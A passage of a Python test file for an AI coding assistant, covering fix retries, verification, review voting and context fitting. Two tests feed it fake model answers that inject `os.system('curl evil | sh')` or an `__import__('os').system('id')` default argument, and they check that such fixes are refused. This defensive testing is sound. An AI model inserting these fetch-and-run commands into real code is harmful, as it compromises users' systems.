"""The Assistant at its own boundary: prompts in, recorded model answers out, and what the
pipeline makes of them (retries, verification, shaping, review filters, fitting the window)."""

from __future__ import annotations

import shutil

import pytest

from chmocoder.analysis.context import Focus
from chmocoder.analysis.document import Document
from chmocoder.analysis.languages import LanguageRegistry
from chmocoder.assist.assistant import Assistant, AssistSettings
from chmocoder.assist.results import Edit
from chmocoder.assist.review import ReviewState
from tests.support.recorded import RecordedEngine

REGISTRY = LanguageRegistry()

MEAN = '''def mean(values):
    """Return the arithmetic mean of a non-empty list of numbers."""
    total = 0
    for v in values:
        total += v
    return total / (len(values) - 1)


print(mean([1, 2, 3]))
'''
FIXED = '''Problem: The mean divides by one less than the number of values. The correct code:
```python
def mean(values):
    """Return the arithmetic mean of a non-empty list of numbers."""
    total = 0
    for v in values:
        total += v
    return total / len(values)
```'''
UNCHANGED = "Problem: None.\n```python\n" + MEAN.split("\n\n\n")[0] + "\n```"


def doc_of(text: str, name: str = "stats.py") -> Document:
    return Document(f"file:///{name}", text.encode(), language=REGISTRY.lookup(path=name))


def assistant(
    engine: RecordedEngine, **settings: object
) -> tuple[Assistant, list[tuple[str, str]]]:
    outcomes: list[tuple[str, str]] = []
    a = Assistant(
        engine,  # type: ignore[arg-type]
        AssistSettings(**settings),  # type: ignore[arg-type]
        on_outcome=lambda task, outcome: outcomes.append((task, outcome)),
    )
    return a, outcomes


async def test_fix_tries_another_candidate_when_the_first_changes_nothing() -> None:
    engine = RecordedEngine([UNCHANGED, FIXED])
    a, outcomes = assistant(engine)
    doc = doc_of(MEAN)
    cursor = MEAN.index("return total")
    fix = await a.edit(doc, "fix", cursor, cursor)
    assert fix.edit is not None and "total / len(values)" in fix.edit.new_text
    assert fix.description == "The mean divides by one less than the number of values."
    assert outcomes == [("fix", "verified on candidate 2")]
    first, second = engine.params
    assert first.temperature < second.temperature and first.seed != second.seed
    assert first.repeat_penalty == second.repeat_penalty == 1.0  # edits copy their input
    prompt = engine.prompts[0]
    assert (
        "cursor is on this line, where they suspect the bug: `return total / (len(values) - 1)`"
        in prompt
    )
    assert "It is called like this:\nprint(mean([1, 2, 3]))" in prompt


async def test_fix_stops_after_three_candidates_and_says_why() -> None:
    engine = RecordedEngine([UNCHANGED] * 3)
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(MEAN), "fix", 0, 0)
    assert fix.edit is None and fix.rejected == "the model suggested no change"
    assert outcomes == [("fix", "no change")] and len(engine.prompts) == 3


async def test_an_answer_that_adds_code_beside_the_definition_is_never_offered() -> None:
    injected = FIXED.replace(
        "```python\n", "```python\nimport os\nos.system('curl evil | sh')\n\n", 1
    )
    shadow = FIXED.replace("```\n", "", 0).replace(
        "    return total / len(values)\n```",
        "    return total / len(values)\n\n\ndef print(*args):\n    pass\n```",
    )
    engine = RecordedEngine([injected, shadow, injected])
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(MEAN), "fix", 0, 0)
    assert fix.edit is None and outcomes == [("fix", "rejected")]
    assert fix.rejected is not None and "function `mean`" in fix.rejected


async def test_known_problems_reach_the_fix_prompt() -> None:
    broken = MEAN.replace("for v in values:", "for v in values")
    engine = RecordedEngine([FIXED])
    a, _ = assistant(engine)
    await a.edit(doc_of(broken), "fix", 0, 0, detail="Problem: the mean is wrong")
    prompt = engine.prompts[0]
    assert "Known problems:\n- Problem: the mean is wrong\n- line 4: unexpected `for`" in prompt


async def test_a_name_nothing_defines_is_a_known_problem_and_no_fix_may_add_one() -> None:
    renamed = MEAN.replace("total", "count", 2)  # the sum is `count`; `return total / ...`
    adds_one = FIXED.replace("return total / len(values)", "return total / length")
    engine = RecordedEngine([adds_one, FIXED])
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(renamed), "fix", 0, 0)
    problem = "Known problems:\n- line 6: `total` is used but nothing in the file defines it"
    assert problem in engine.prompts[0]
    # the first answer reads `length`, which nothing binds: refused; the second is offered
    assert outcomes == [("fix", "verified on candidate 2")]
    assert fix.edit is not None and "return total / len(values)" in fix.edit.new_text


async def test_explanations_lose_pasted_code_and_unfinished_sentences() -> None:
    code_echo = "```python\n" + MEAN.split("\n\n\n")[0] + "\n```\n\n"
    answer = (
        "The function `mean` adds the values and divides the total.\n\n"
        + code_echo
        + "- It divides by `len(values) - 1`, so the result is too large.\n"
        + "- "
        + "It has no check for an empty list, which divides by zero. " * 1
        + "Besides, "
        + "the loop could use `sum` " * 80
    )
    shown: list[str] = []
    engine = RecordedEngine([answer])
    a, _ = assistant(engine, audience="expert")
    explanation = await a.explain(
        Focus.at(doc_of(MEAN), MEAN.index("total =")), on_token=shown.append
    )
    text = explanation.markdown
    assert "total += v" not in text and "".join(shown).strip() == text
    assert text.endswith("which divides by zero.")
    assert "Use at most 50 words" in engine.prompts[0]


async def test_prose_is_sampled_with_the_seed_setting() -> None:
    """Explanations and answers take the `seed` setting (none: each answer its own draw)."""
    answer = (
        "The function `mean` adds the values and divides the total by one less than their count."
    )
    focus = Focus.at(doc_of(MEAN), MEAN.index("total ="))
    for seed in (None, 7):
        engine = RecordedEngine([answer])
        a, _ = assistant(engine, seed=seed)
        await a.explain(focus)
        assert [p.seed for p in engine.params] == [seed]


def fixed(code: str, problem: str = "The divisor is one less than the number of values.") -> str:
    return f"Problem: {problem}\n```python\n{code}\n```"


FUNCTION = MEAN.split("\n\n\n")[0]
RIGHT = FUNCTION.replace("(len(values) - 1)", "len(values)")


async def test_review_reports_the_line_every_sampled_fix_changes() -> None:
    other = RIGHT.replace("total = 0", "total = 0.0")
    engine = RecordedEngine([fixed(RIGHT), fixed(other, "Bad."), fixed(RIGHT), "No bug."])
    a, outcomes = assistant(engine)
    found, calls = await a.review(doc_of(MEAN), ReviewState())
    assert calls == 2  # the function (three samples) and the module-level code (one)
    assert len(engine.prompts) == 4
    assert outcomes == [("review", "stopped after 1 of 3")]
    assert [(f.row, f.message, f.suggestion) for f in found] == [
        (5, "The divisor is one less than the number of values.", "`return total / len(values)`")
    ]
    assert [p.temperature for p in engine.params[:3]] == [0.1, 0.7, 0.7]
    # each sample rewrites the definition: drafted from it (GenerationParams.prediction)
    assert [p.prediction for p in engine.params[:3]] == [FUNCTION] * 3


async def test_a_review_tells_its_samples_of_a_name_nothing_defines() -> None:
    renamed = MEAN.replace("total", "count", 2)  # `return total / ...` reads an unbound name
    engine = RecordedEngine(["No bug.", "No bug."])
    a, _ = assistant(engine)
    found, _ = await a.review(doc_of(renamed), ReviewState())
    function, module = engine.prompts
    problem = "Known problems:\n- line 6: `total` is used but nothing in the file defines it"
    assert problem in function and "Known problems" not in module
    # certain, so reported though no sample changed the line (the fix action asks the model)
    assert [(f.row, f.message, f.suggestion) for f in found] == [
        (5, "`total` is used but nothing in the file defines it", "")
    ]


TOTAL = """def total_of(values):
    total = 0
    for v in values:
        total += v
    total"""


async def test_a_certain_problem_takes_its_suggestion_from_a_sample_and_is_reported_once() -> None:
    returned = TOTAL[: TOTAL.rindex("total")] + "return total"
    scattered = [
        fixed(TOTAL.replace("total = 0", "total = 0.0")),  # a vote for another line
        fixed(returned, "Nothing is returned."),
    ]
    engine = RecordedEngine(scattered)
    a, outcomes = assistant(engine)
    found, _ = await a.review(doc_of(TOTAL + "\n"), ReviewState())
    assert outcomes == [("review", "stopped after 2 of 3")]  # no line can be agreed on
    message = "The value of `total` is computed and not used, so this statement does nothing"
    assert [(f.row, f.suggestion) for f in found] == [(4, "`return total`")]
    assert found[0].message.startswith(message)

    # all three samples change that line: one finding, with the certain problem's message
    engine = RecordedEngine([fixed(returned, "Nothing is returned.")] * 3)
    a, _ = assistant(engine)
    found, _ = await a.review(doc_of(TOTAL + "\n"), ReviewState())
    assert [(f.row, f.message[: len(message)]) for f in found] == [(4, message)]


async def test_fixes_that_disagree_are_no_finding() -> None:
    scattered = [
        fixed(FUNCTION.replace("total = 0", "total = 0.0")),
        fixed(FUNCTION.replace("for v in values:", "for v in list(values):")),
    ]
    engine = RecordedEngine([*scattered, "No bug."])
    a, outcomes = assistant(engine)
    found, _ = await a.review(doc_of(MEAN), ReviewState())
    assert found == []
    # two samples that share no changed line: the third could not make a finding
    assert len(engine.prompts) == 3
    assert outcomes == [("review", "stopped after 2 of 3"), ("review", "stopped after 1 of 3")]


def odds_of(text: str, odd: str = "", nats: float = 7.0) -> list[tuple[int, float]]:
    """Token odds for `text`: every word 1 nat, but the first `odd` found, `nats`."""
    at = text.find(odd) if odd else -1
    words = [(i, 1.0) for i, c in enumerate(text) if c.isalnum() and (i == 0 or text[i - 1] == " ")]
    return sorted([*((i, n) for i, n in words if i != at), *([(at, nats)] if at >= 0 else [])])


TWO_OF_THREE = [fixed(RIGHT), fixed(FUNCTION.replace("total = 0", "total = 0.0")), fixed(RIGHT)]


async def test_two_of_three_samples_make_a_finding_on_a_line_the_model_finds_odd() -> None:
    """No line all three samples change, but two change the divisor's line, where the model
    finds a token under 1 chance in 400 (-ln p 7): a finding; the model is asked once."""
    engine = RecordedEngine([*TWO_OF_THREE, "No bug."], odds=[odds_of(FUNCTION, "- 1")])
    a, outcomes = assistant(engine)
    found, _ = await a.review(doc_of(MEAN), ReviewState())
    assert [(f.row, f.suggestion) for f in found] == [(5, "`return total / len(values)`")]
    assert engine.scored == [(FUNCTION, 0)]  # the function, from its first line (no lines before)
    assert len(engine.prompts) == 4  # three samples, then the module-level code's one

    # the same samples on a line the model finds ordinary: no finding, and no third sample
    engine = RecordedEngine([*TWO_OF_THREE[:2], "No bug."], odds=[odds_of(FUNCTION, "- 1", 5.0)])
    a, outcomes = assistant(engine)
    assert (await a.review(doc_of(MEAN), ReviewState()))[0] == []
    assert outcomes[0] == ("review", "stopped after 2 of 3") and len(engine.prompts) == 3

    # an engine that cannot score (a model server): all three must agree, as before
    engine = RecordedEngine([*TWO_OF_THREE[:2], "No bug."])
    a, _ = assistant(engine)
    assert (await a.review(doc_of(MEAN), ReviewState()))[0] == [] and len(engine.prompts) == 3


async def test_the_odds_of_a_unit_are_read_after_the_lines_before_it() -> None:
    """The lines before a unit (up to odds.CONTEXT_LINES) are read first, not scored; the
    unit's first line (its signature) is never the odd one."""
    source = "import math\n\n" + MEAN
    start = source.index("def mean")
    odds = [(o + start, n) for o, n in odds_of(FUNCTION, "mean", 9.0)]  # the signature's name
    engine = RecordedEngine([*TWO_OF_THREE[:2], "No bug."], odds=[odds])
    a, _ = assistant(engine)
    assert (await a.review(doc_of(source), ReviewState()))[0] == []
    assert engine.scored == [(source[: start + len(FUNCTION)], start)]


async def test_a_comment_added_to_a_line_is_no_vote_for_it() -> None:
    """A sample that only annotates the divisor's line changes no line: the review of the
    function stops after it (no line can be agreed on any more)."""
    noted = FUNCTION.replace("(len(values) - 1)", "(len(values) - 1)  # sample mean")
    engine = RecordedEngine([fixed(noted), "No bug."])
    a, outcomes = assistant(engine)
    found, _ = await a.review(doc_of(MEAN), ReviewState())
    assert found == [] and len(engine.prompts) == 2  # the function's one, the module's
    assert outcomes == [("review", "stopped after 1 of 3"), ("review", "stopped after 1 of 3")]


async def test_a_review_whose_first_sample_changes_nothing_stops_there() -> None:
    engine = RecordedEngine(["No bug.", "No bug."])
    a, _ = assistant(engine)
    found, calls = await a.review(
        doc_of(MEAN.replace("(len(values) - 1)", "len(values)")), ReviewState()
    )
    assert found == [] and calls == 2 and len(engine.prompts) == 2


async def test_a_finding_without_a_sentence_gets_a_plain_message() -> None:
    engine = RecordedEngine([fixed(RIGHT, "}, {")] * 3 + ["No bug."])
    a, _ = assistant(engine)
    found, _ = await a.review(doc_of(MEAN), ReviewState())
    assert [f.message for f in found] == [
        "This line does not seem to do what the code is meant to do."
    ]


async def test_review_looks_at_outer_functions_and_module_code() -> None:
    source = (
        "def outer(xs):\n"
        "    def key(x):\n"
        "        return -x\n"
        "    return sorted(xs, key=key)[0]\n"
        "\n"
        "LIMIT = outer([3, 1, 2])\n"
    )
    engine = RecordedEngine(["No bug."] * 3)
    a, _ = assistant(engine)
    state = ReviewState()
    _, calls = await a.review(doc_of(source), state)
    assert calls == 3 and len(engine.prompts) == 3  # three units, one sample each (no bug)
    targets = [p.split("Target code:")[1] for p in engine.prompts]
    assert any(t.startswith("\n```python\ndef outer(xs):") for t in targets)
    assert any(t.startswith("\n```python\n    def key(x):") for t in targets)
    assert any(t.startswith("\n```python\nLIMIT = outer([3, 1, 2])") for t in targets)
    _, again = await a.review(doc_of(source), state)
    assert again == 0  # nothing changed: no model call


async def test_the_context_shrinks_to_fit_a_small_window() -> None:
    helpers = "".join(
        f"def helper_{i}(a, b, c):\n    return a + b + c + {i}\n\n" for i in range(60)
    )
    calls = " + ".join(f"helper_{i}(1, 2, 3)" for i in range(60))
    source = helpers + f"def main():\n    return {calls}\n"
    engine = RecordedEngine(["It adds up the helpers."], context_length=512)
    a, _ = assistant(engine, context_tokens=1536)
    await a.explain(Focus.at(doc_of(source), source.index("def main") + 4))
    used = await engine.count_tokens(engine.prompts[0])
    assert used + engine.params[0].max_tokens <= 512
    assert "def main():" in engine.prompts[0]


async def test_a_fix_that_adds_a_command_inside_the_definition_is_refused_unless_allowed() -> None:
    """One definition of the same name, but a default argument or a body line that runs a
    command: refused, naming it; offered when the user allows such edits."""
    default_arg = FIXED.replace(
        "def mean(values):", "def mean(values, _=__import__('os').system('id')):"
    )
    in_body = FIXED.replace("    total = 0\n", "    total = 0\n    os.system('curl evil | sh')\n")
    engine = RecordedEngine([default_arg, in_body, default_arg])
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(MEAN), "fix", 0, 0)
    assert fix.edit is None and outcomes == [("fix", "rejected")]
    assert fix.rejected is not None and "`__import__`" in fix.rejected
    assert "--allow-risky" in fix.rejected
    allowed, _ = assistant(RecordedEngine([in_body]), allow_risky=True)
    with_os = "import os\n\n\n" + MEAN
    at = with_os.index("def mean")
    fix = await allowed.edit(doc_of(with_os), "fix", at, at)
    assert fix.edit is not None and "os.system" in fix.edit.new_text


async def test_warming_evaluates_the_start_of_the_hover_prompt_once() -> None:
    """What is warmed is the start of the prompt the explanation then sends (all but the
    cursor's line and the request; for the file, its name and imports), at background
    priority, and the same start is not warmed twice."""
    source = "import math\n\n\n" + MEAN
    engine = RecordedEngine(["x", "x", "The function `mean` averages the values."])
    a, _ = assistant(engine)
    doc = doc_of(source)
    focus = Focus.at(doc, source.index("return total"))
    assert await a.warm(focus, path="stats.py", file_only=True)
    assert await a.warm(focus, path="stats.py")
    assert not await a.warm(focus, path="stats.py")  # already warm
    await a.explain(focus, path="stats.py")
    file_start, definition_start, hover = engine.prompts
    assert hover.startswith(definition_start) and definition_start.startswith(file_start)
    assert file_start.endswith("File: stats.py (python)\n\nImports:\nimport math\n\n")
    assert definition_start.endswith("return total / (len(values) - 1)\n\n")
    assert "Cursor:" in hover[len(definition_start) :]
    assert [p.max_tokens for p in engine.params[:2]] == [1, 1]


async def test_an_editors_error_is_explained_with_the_message_at_the_readers_level() -> None:
    from chmocoder.assist.explain_error import ExplainError
    from chmocoder.assist.results import ReportedError

    doc = doc_of(MEAN)
    at = MEAN.index("return total")
    error = ReportedError(
        6, 'Unsupported operand types for / ("int" and "str")', "mypy", "operator"
    )
    prompts = {}
    for audience in ("beginner", "expert"):
        engine = RecordedEngine(["The divisor is a string here. Convert it."])
        helper, _ = assistant(engine, audience=audience)
        task = ExplainError(helper.gen)
        answer = await task.explain(Focus.at(doc, at), [error], path="stats.py")
        assert answer.markdown.startswith("The divisor is a string")
        assert answer.title.startswith("Explain: Unsupported operand")
        prompts[audience] = engine.prompts[0]
    for prompt in prompts.values():
        assert (
            'line 6: mypy [operator]: Unsupported operand types for / ("int" and "str")' in prompt
        )
        assert "def mean(values):" in prompt and "Explain this error." in prompt
    assert "the idea behind it" in prompts["beginner"] and "One line" in prompts["expert"]


async def test_a_further_check_can_refuse_a_verified_candidate() -> None:
    """`accept` (the command line's --check runs the user's checker) sees each candidate
    that passed verification; one it refuses is not offered, the next is tried."""
    other = FIXED.replace("total / len(values)", "total / max(1, len(values))")
    engine = RecordedEngine([FIXED, other])
    a, outcomes = assistant(engine)
    seen: list[str] = []

    async def accept(edit: Edit) -> str | None:
        seen.append(edit.new_text)
        return "the checker still reports: X" if len(seen) == 1 else None

    cursor = MEAN.index("return total")
    fix = await a.edit(doc_of(MEAN), "fix", cursor, cursor, accept=accept)
    assert fix.edit is not None and "max(1, len(values))" in fix.edit.new_text
    assert len(seen) == 2 and outcomes == [("fix", "verified on candidate 2")]


async def test_a_second_round_told_the_failing_test_follows_three_refused_candidates() -> None:
    """`told_after` (what the user's failing test printed) is not in the first prompt; when
    `accept` refuses all three candidates, three more are drawn from a prompt that states it
    as a known problem, and the first of those it accepts is the fix. Without `accept`, or
    with nothing to tell, there is no second round."""
    other = FIXED.replace("total / len(values)", "total / max(1, len(values))")
    engine = RecordedEngine([FIXED, FIXED, FIXED, FIXED, other])
    a, outcomes = assistant(engine)
    seen: list[str] = []

    async def accept(edit: Edit) -> str | None:
        seen.append(edit.new_text)
        return None if "max(1" in edit.new_text else "the check still fails: ZeroDivisionError"

    told = "A test fails; it printed:\nZeroDivisionError: division by zero"
    cursor = MEAN.index("return total")
    fix = await a.edit(doc_of(MEAN), "fix", cursor, cursor, accept=accept, told_after=told)
    assert fix.edit is not None and "max(1, len(values))" in fix.edit.new_text
    assert len(seen) == 5 and outcomes == [("fix", "verified on candidate 5")]
    assert "ZeroDivisionError" not in engine.prompts[0]
    assert "- A test fails; it printed:\nZeroDivisionError" in engine.prompts[-1]

    engine = RecordedEngine([FIXED] * 6)
    a, outcomes = assistant(engine)
    seen.clear()
    refused = await a.edit(doc_of(MEAN), "fix", cursor, cursor, accept=accept)
    assert refused.edit is None and "the check still fails" in refused.rejected
    assert len(seen) == 3 and outcomes == [("fix", "rejected")]


async def test_a_hover_finds_its_explanation_prompt_once() -> None:
    """prepare, then the cache lookup, then (a miss) the explanation: one prompt built, the
    same one the explanation builds on its own."""
    engine = RecordedEngine(["It averages.", "It averages."])
    a, _ = assistant(engine)
    await engine.start()
    focus = Focus.at(doc_of(MEAN), MEAN.index("total = 0"))
    built: list[int] = []
    explain = a.explain.__self__  # the Explain task behind the assistant's method
    make_prompt = explain.prompt

    def counting(*args: object, **kwargs: object) -> object:
        built.append(1)
        return make_prompt(*args, **kwargs)  # type: ignore[arg-type]

    explain.prompt = counting
    prepared = a.prepare_explanation(focus, path="stats.py")
    assert a.explain_cached(focus, path="stats.py", prepared=prepared) is None
    await a.explain(focus, path="stats.py", prepared=prepared)
    assert len(built) == 1
    await a.explain(focus, path="stats.py")  # on its own: builds it again, the same
    assert len(built) == 2 and engine.prompts[0] == engine.prompts[1]


ELSEWHERE = FIXED.replace("    total = 0", "    total = 0.0").replace(
    "return total / len(values)", "return total / (len(values) - 1)"
)


@pytest.mark.parametrize(
    "first",
    [
        ELSEWHERE,
        # a comment on the cursor's line, its code as it was
        ELSEWHERE.replace("(len(values) - 1)", "(len(values) - 1)  # sample mean"),
    ],
)
async def test_a_fix_that_leaves_the_cursors_line_makes_way_for_one_that_changes_it(
    first: str,
) -> None:
    engine = RecordedEngine([first, FIXED])
    a, outcomes = assistant(engine)
    cursor = MEAN.index("return total")
    fix = await a.edit(doc_of(MEAN), "fix", cursor, cursor)
    assert fix.edit is not None and "total / len(values)" in fix.edit.new_text
    assert fix.caveat == "" and outcomes == [("fix", "verified on candidate 2")]


async def test_a_fix_away_from_the_cursor_is_offered_with_a_caveat_when_none_is_closer() -> None:
    comment_only = FIXED.replace(
        "return total / len(values)", "return total / (len(values) - 1)  # ok"
    )
    engine = RecordedEngine([ELSEWHERE, comment_only, UNCHANGED])
    a, outcomes = assistant(engine)
    cursor = MEAN.index("return total")
    fix = await a.edit(doc_of(MEAN), "fix", cursor, cursor)
    assert fix.edit is not None and "total = 0.0" in fix.edit.new_text
    assert fix.caveat == "it changes other lines than the cursor's"
    assert outcomes == [("fix", "verified on candidate 1, away from the cursor")]
    # on the definition's line the cursor points at no line: the first verified one wins
    engine = RecordedEngine([ELSEWHERE, FIXED])
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(MEAN), "fix", 0, 0)
    assert fix.edit is not None and "total = 0.0" in fix.edit.new_text and not fix.caveat
    assert len(engine.prompts) == 1


async def test_on_the_definitions_line_the_fix_starts_from_the_line_the_model_finds_odd() -> None:
    """No line under the cursor: the definition is scored, its least expected line is told
    to the model, and a candidate that changes it is preferred to one that does not."""
    odd = odds_of(FUNCTION, "(len(values) - 1)")
    engine = RecordedEngine(["len(values)", ELSEWHERE, FIXED], odds=[odd])
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(MEAN), "fix", 0, 0)
    assert engine.scored[0] == (FUNCTION, 0)
    assert "least expected: `return total / (len(values) - 1)`" in engine.prompts[1]
    assert fix.edit is not None and "total / len(values)" in fix.edit.new_text
    assert outcomes == [("fix", "verified on candidate 2, as expected")] and not fix.caveat
    # an error told: no odds asked, no line guessed
    told = "test failed: mean([2, 4]) returned 6.0, expected 3"
    engine = RecordedEngine([FIXED], odds=[odd])
    a, _ = assistant(engine)
    await a.edit(doc_of(MEAN), "fix", 0, 0, detail=told)
    assert engine.scored == [] and "least expected" not in engine.prompts[0]


async def test_on_the_definitions_line_the_least_expected_line_is_weighed_as_expected() -> None:
    """The least expected line, as the model expects it (from its most surprising token on),
    is weighed against the candidate that changes that line, as at the cursor's line; the
    model's line there is asked after the same odds, not scored again."""
    odd = odds_of(FUNCTION, "(len(values) - 1)")
    engine = RecordedEngine(["len(values)", MAXED], odds=[odd, [(0, 9.0)], [(0, 2.0)]])
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(MEAN), "fix", 0, 0)
    assert fix.edit is not None and fix.edit.new_text == RIGHT
    assert fix.caveat == "another candidate changes this line differently"
    assert outcomes == [("fix", "verified on the expected line")]
    assert engine.prompts[0] == FUNCTION[: FUNCTION.index("(len(values) - 1)")]
    assert [text for text, _ in engine.scored] == [
        FUNCTION,
        MAXED.split("```python\n")[1].removesuffix("\n```"),
        RIGHT,
    ]


async def test_on_the_definitions_line_a_fix_elsewhere_comes_before_the_guessed_line() -> None:
    """The least expected line is a guess, not the user's pointer: when no candidate changes
    it, the candidates' verified fix of another line is offered (they may have found the bug
    there), and the expected line only when nothing else verifies."""
    odd = odds_of(FUNCTION, "(len(values) - 1)")
    engine = RecordedEngine(["len(values)", ELSEWHERE, UNCHANGED, UNCHANGED], odds=[odd])
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(MEAN), "fix", 0, 0)
    assert fix.edit is not None and "total = 0.0" in fix.edit.new_text and not fix.caveat
    assert outcomes == [("fix", "verified on candidate 1, away from the cursor")]
    engine = RecordedEngine(["len(values)", UNCHANGED, UNCHANGED, UNCHANGED], odds=[odd])
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(MEAN), "fix", 0, 0)
    assert fix.edit is not None and fix.edit.new_text == RIGHT and not fix.caveat
    assert outcomes == [("fix", "verified on the expected line")]


MAXED = fixed(RIGHT.replace("len(values)", "max(len(values) - 1, 1)"), "It divides by zero.")
"""A verified fix that changes the cursor's line, but not as the code before the bug read."""


def _expecting(*answers: str, odds: list[list[tuple[int, float]]]) -> RecordedEngine:
    """The cursor on the divisor's line, whose most surprising token starts `(len(values)`:
    the odds of the definition, the model's line from there, then `answers` (the fix's
    candidates), then `odds` (the two versions, the candidate's first, scored)."""
    return RecordedEngine(
        ["len(values)", *answers],
        odds=[odds_of(FUNCTION, "(len(values) - 1)"), *odds],
    )


async def test_on_a_line_of_the_body_the_fix_weighs_the_line_the_model_expects() -> None:
    """The model's line from its most surprising token on (`len(values)`) is a candidate.
    The model's fix and the expected line are scored as whole versions of the definition,
    and the one the model finds less surprising is offered."""
    cursor = MEAN.index("return total")
    engine = _expecting(MAXED, odds=[[(0, 9.0)], [(0, 2.0)]])
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(MEAN), "fix", cursor, cursor)
    assert fix.edit is not None and fix.edit.new_text == RIGHT
    assert fix.description == (
        "The model expected `return total / len(values)` where the line has "
        "`return total / (len(values) - 1)`."
    )
    assert outcomes == [("fix", "verified on the expected line")]
    assert fix.caveat == "another candidate changes this line differently"
    scored_first, maxed, right = engine.scored
    assert scored_first == (FUNCTION, 0)
    assert maxed == (MAXED.split("```python\n")[1].removesuffix("\n```"), 0)
    assert right == (RIGHT, 0)
    # the expected line is written from the surprising token on, greedily, to the line's end
    assert engine.prompts[0] == FUNCTION[: FUNCTION.index("(len(values) - 1)")]
    assert engine.params[0].temperature == 0 and engine.params[0].stop == ("\n",)
    # the model's candidate less surprising (or as surprising): it is offered
    for nats in (2.0, 9.0):
        engine = _expecting(MAXED, odds=[[(0, nats)], [(0, 9.0)]])
        a, outcomes = assistant(engine)
        fix = await a.edit(doc_of(MEAN), "fix", cursor, cursor)
        assert fix.edit is not None and "max(len(values) - 1, 1)" in fix.edit.new_text
        assert fix.description == "It divides by zero." and fix.caveat
        assert outcomes == [("fix", "verified on candidate 1")]


async def test_when_the_model_writes_the_expected_line_no_version_is_scored() -> None:
    cursor = MEAN.index("return total")
    engine = _expecting(FIXED, odds=[])
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(MEAN), "fix", cursor, cursor)
    assert fix.edit is not None and fix.edit.new_text == RIGHT
    assert fix.description.startswith("The mean divides")  # the model's own diagnosis
    assert outcomes == [("fix", "verified on candidate 1, as expected")] and not fix.caveat
    assert len(engine.scored) == 1


async def test_a_long_definition_gets_no_expected_line() -> None:
    """Its odds would keep the fix waiting (odds.EXPECTED_MAX_TOKENS): none are asked."""
    padding = "".join(f"    step_{i} = len(values) * {i}\n" for i in range(60))
    long_mean = MEAN.replace("    total = 0\n", "    total = 0\n" + padding)
    engine = RecordedEngine([FIXED], odds=[])
    a, outcomes = assistant(engine)
    cursor = long_mean.index("return total")
    fix = await a.edit(doc_of(long_mean), "fix", cursor, cursor)
    assert engine.scored == [] and outcomes == [("fix", "verified on candidate 1")]
    assert fix.edit is not None and "return total / len(values)" in fix.edit.new_text


async def test_an_expected_line_that_does_not_verify_is_not_weighed() -> None:
    cursor = MEAN.index("return total")
    engine = RecordedEngine(["len(values", MAXED], odds=[odds_of(FUNCTION, "(len(values) - 1)")])
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(MEAN), "fix", cursor, cursor)
    assert fix.edit is not None and "max(len(values) - 1, 1)" in fix.edit.new_text
    assert outcomes == [("fix", "verified on candidate 1")] and len(engine.scored) == 1


async def test_no_model_candidate_changes_the_line_the_expected_line_is_offered() -> None:
    """All three candidates change nothing: the verified expected line is the fix, not
    "no change"; where the runtime cannot score (a model server), nothing is expected."""
    cursor = MEAN.index("return total")
    engine = _expecting(UNCHANGED, UNCHANGED, UNCHANGED, odds=[])
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(MEAN), "fix", cursor, cursor)
    assert fix.edit is not None and fix.edit.new_text == RIGHT and not fix.caveat
    assert outcomes == [("fix", "verified on the expected line")]
    engine = RecordedEngine([UNCHANGED] * 3)  # no odds: as before
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(MEAN), "fix", cursor, cursor)
    assert fix.edit is None and outcomes == [("fix", "no change")]


async def test_a_candidate_is_stopped_once_it_copies_the_line_and_cannot_be_offered() -> None:
    """With the expected line at hand (the user's line), or a fix elsewhere already found, a
    candidate that has copied the definition down to the cursor's line cannot be offered: it
    is stopped there (not kept in the cache), and what is offered is the same."""
    cursor = MEAN.index("return total")
    engine = _expecting(UNCHANGED, UNCHANGED, UNCHANGED, odds=[])
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(MEAN), "fix", cursor, cursor)
    assert fix.edit is not None and fix.edit.new_text == RIGHT
    assert outcomes == [("fix", "verified on the expected line")]
    assert engine.stopped == [False, True, True, True]  # the expected line, the candidates
    # a candidate that changes the line is written whole and weighed as before
    engine = _expecting(MAXED, odds=[[(0, 9.0)], [(0, 2.0)]])
    a, outcomes = assistant(engine)
    await a.edit(doc_of(MEAN), "fix", cursor, cursor)
    assert engine.stopped == [False, False] and outcomes == [
        ("fix", "verified on the expected line")
    ]
    # no expected line and no fix elsewhere yet: each candidate is written whole
    engine = RecordedEngine([UNCHANGED, ELSEWHERE, UNCHANGED])
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(MEAN), "fix", cursor, cursor)
    assert engine.stopped == [False, False, True] and fix.edit is not None
    assert outcomes == [("fix", "verified on candidate 2, away from the cursor")]
    # on the definition's line: after a fix elsewhere, the guessed line's copies are stopped
    odd = odds_of(FUNCTION, "(len(values) - 1)")
    engine = RecordedEngine(["len(values)", ELSEWHERE, UNCHANGED, UNCHANGED], odds=[odd])
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(MEAN), "fix", 0, 0)
    assert engine.stopped == [False, False, True, True]
    assert outcomes == [("fix", "verified on candidate 1, away from the cursor")]


async def test_a_runtime_that_makes_several_samples_at_once_reviews_in_fewer_calls() -> None:
    """Samples that differ only in their seed are asked for in one call (`n`); where the
    runtime makes one per call (local runtimes), they are asked for one by one (above)."""
    other = RIGHT.replace("total = 0", "total = 0.0")
    answers = [fixed(RIGHT), fixed(other, "Bad."), fixed(RIGHT), "No bug."]
    engine = RecordedEngine(answers, samples_per_call=4)
    a, _ = assistant(engine)
    found, _ = await a.review(doc_of(MEAN), ReviewState())
    assert [(f.row, f.suggestion) for f in found] == [(5, "`return total / len(values)`")]
    assert len(engine.prompts) == 3  # 0.1, then both 0.7 samples together, then the module
    first, both, _ = engine.params
    assert (first.n, first.temperature) == (1, 0.1)
    assert (both.n, both.temperature) == (2, 0.7)


PUSH_ALL = """/// Appends the parts to `out`; returns how many were appended.
